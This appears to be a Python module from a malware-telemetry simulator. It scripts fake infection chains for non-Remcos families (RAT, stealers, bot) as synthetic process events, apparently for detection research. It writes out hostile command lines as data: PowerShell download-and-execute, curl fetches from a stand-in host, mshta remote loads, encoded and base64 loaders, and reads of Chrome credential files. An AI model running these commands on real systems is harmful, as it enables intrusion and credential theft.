"""Stories of other malware that comes by the same ways, and leaves none of Remcos's marks."""

from __future__ import annotations

from typing import TYPE_CHECKING

from lineage.simulate.benign.boot import SYSTEM32
from lineage.simulate.benign.web import chrome_profile
from lineage.simulate.stories import delivery
from lineage.simulate.stories.office import EQUATION_EDITOR
from lineage.simulate.stories.scene import DOTNET

if TYPE_CHECKING:
    from lineage.simulate.facts import Process
    from lineage.simulate.machine import Activity
    from lineage.simulate.stories.scene import Scene


def script_regsvcs_task(s: Scene) -> Activity:
    """A remote access tool: script, PowerShell from ProgramData, RegSvcs, a task every minute."""
    shell, script = yield from delivery.zip_window(
        s, f"{s.plan.document}.zip", f"{s.plan.document}.js"
    )
    host = delivery.wscript(s, shell, script)
    s.fetch(host)
    stage = s.save(host, f"C:\\Users\\Public\\{s.word()}.ps1", "script")
    yield 2
    loader = s.powershell(
        host,
        f'-ExecutionPolicy Bypass -WindowStyle Hidden -File "{stage}"',
        "[Reflection.Assembly]::Load",
        path=stage,
    )
    yield 3
    rat = s.run(loader, DOTNET + "RegSvcs.exe", f'"{DOTNET}RegSvcs.exe"', "injected")

    def again(process: Process) -> Activity:
        yield 2
        second = s.powershell(process, f'-WindowStyle Hidden -File "{stage}"', "Load")
        yield 2
        worker = s.run(second, DOTNET + "RegSvcs.exe", f'"{DOTNET}RegSvcs.exe"', "injected")
        s.fetch(worker)

    copy = s.save(loader, f"C:\\Users\\Public\\{s.word()}.vbs", "script")
    s.task(loader, SYSTEM32 + "wscript.exe", f'wscript.exe "{copy}"', again)
    for server in s.plan.servers:
        s.fetch(rat, server)
        yield 20


def equation_stealer(s: Scene) -> Activity:
    """A stealer: the equation editor, a program in Roaming that reads the browsers, Run key."""
    yield from delivery.document(s, "EXCEL.EXE", f"{s.plan.document}.xls")
    editor = delivery.component(s, f'"{EQUATION_EDITOR}" -Embedding', EQUATION_EDITOR)
    s.fetch(editor)
    yield 2
    path = s.drop(editor, f"{s.roaming}\\{s.word()}.exe", "payload file")
    first = s.run(editor, path, f'"{path}"', "dropper")
    yield 6
    thief = s.run(first, path, f'"{path}"', "payload")
    s.m.exit(first)
    for name in ("Login Data", "Cookies", "Web Data"):
        s.m.open(thief, f"{chrome_profile(s.m)}\\{name}", s.own("stolen passwords"))
        yield 0.5

    def again(process: Process) -> Activity:
        yield 2
        s.fetch(process)

    s.run_value(thief, path, path, again)
    s.fetch(thief, "api.telegram.org")
    yield 30


def script_support_tool(s: Scene) -> Activity:
    """An abused support tool: script, PowerShell unpacks it into Roaming, Run key."""
    shell, script = yield from delivery.download(s, f"Update_{s.m.random.randrange(9999)}.js")
    host = delivery.wscript(s, shell, script)
    s.fetch(host)
    yield 2
    loader = s.powershell(
        host, "-ep bypass -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('x')\"", "IEX"
    )
    s.fetch(loader)
    yield 5
    path = s.drop(loader, f"{s.roaming}\\{s.word()}\\client32.exe", "payload file")
    client = s.run(loader, path, f'"{path}" ', "payload")

    def again(process: Process) -> Activity:
        yield 2
        s.fetch(process)

    s.run_value(loader, path, path, again)
    for server in s.plan.servers:
        s.fetch(client, server)
        yield 60


def notebook_library(s: Scene) -> Activity:
    """A bot: OneNote, HTA, curl, rundll32, a hollowed viewer."""
    m = s.m
    _, path = yield from delivery.attachment(s, f"{s.plan.document}.one")
    image = "C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTE.EXE"
    note = m.start(m.shell(), image, f'"{image}" "{path}"', label=s.own("document reader"))
    yield 15
    lure = s.save(note, f"{s.temp}\\OneNote\\16.0\\Exported\\{{B2}}\\NT\\0\\Open.hta", "script")
    hta = s.run(note, SYSTEM32 + "mshta.exe", f'"{SYSTEM32}mshta.exe" "{lure}"', "script host")
    library = f"C:\\ProgramData\\{s.word()}.png"
    command = f"curl.exe --output {library} --url http://x/1.dat"
    curl = s.run(hta, SYSTEM32 + "curl.exe", command, "download", lifetime=3)
    s.fetch(curl)
    s.drop(curl, library, "library")
    yield 3
    runner = s.run(hta, SYSTEM32 + "rundll32.exe", f"rundll32 {library},Wind", "loader")
    m.load(runner, library, s.own("library"))
    yield 3
    viewer = "C:\\Windows\\SysWOW64\\AtBroker.exe"
    bot = s.run(runner, viewer, viewer, "injected")
    for server in s.plan.servers:
        s.fetch(bot, server)
        yield 60


def batch_worm(s: Scene) -> Activity:
    """A remote access tool: batch file, PowerShell that reads it back, copy in Startup."""
    window, script = yield from delivery.archiver(
        s, f"{s.plan.document}.rar", f"{s.plan.document}.bat", program=delivery.WINRAR
    )

    def infect(prompt: Process) -> Activity:
        yield 1
        rat = s.powershell(
            prompt,
            "-w hidden -nop -c \"$l=[IO.File]::ReadAllText('%~f0').Split([Environment]::NewLine);"
            "foreach($x in $l){if($x.StartsWith(':: ')){}};"
            '[Reflection.Assembly]::Load([Convert]::FromBase64String($x))"',
            "FromBase64String | GZipStream | Load",
            "payload",
        )
        for server in s.plan.servers:
            s.fetch(rat, server)
            yield 30

    prompt = s.run(window, SYSTEM32 + "cmd.exe", f'{SYSTEM32}cmd.exe /c ""{script}" "', "shell")
    s.startup_file(
        prompt,
        f"{s.word()}.bat",
        SYSTEM32 + "cmd.exe",
        f'{SYSTEM32}cmd.exe /c ""{{path}}" "',
        infect,
    )
    yield from infect(prompt)


def pasted_stealer(s: Scene) -> Activity:
    """A stealer: a pasted command, mshta, PowerShell, a program in the temporary folder."""
    m = s.m
    yield from delivery.download(s, f"{s.plan.document}.png")
    url = f"https://{s.plan.servers[0]}/captcha.mp4"
    hta = s.run(m.shell(), SYSTEM32 + "mshta.exe", f'"{SYSTEM32}mshta.exe" {url}', "script host")
    s.fetch(hta)
    yield 2
    loader = s.powershell(hta, "-w 1 -ep Unrestricted -nop -enc SQBFAFgA", "IEX")
    s.fetch(loader)
    yield 3
    path = s.drop(loader, f"{s.temp}\\{s.word()}\\{s.word()}.exe", "payload file")
    thief = s.run(loader, path, f'"{path}"', "payload")
    for name in ("Login Data", "Cookies"):
        m.open(thief, f"{chrome_profile(m)}\\{name}", s.own("stolen passwords"))
        yield 0.5
    s.fetch(thief)
    yield 30
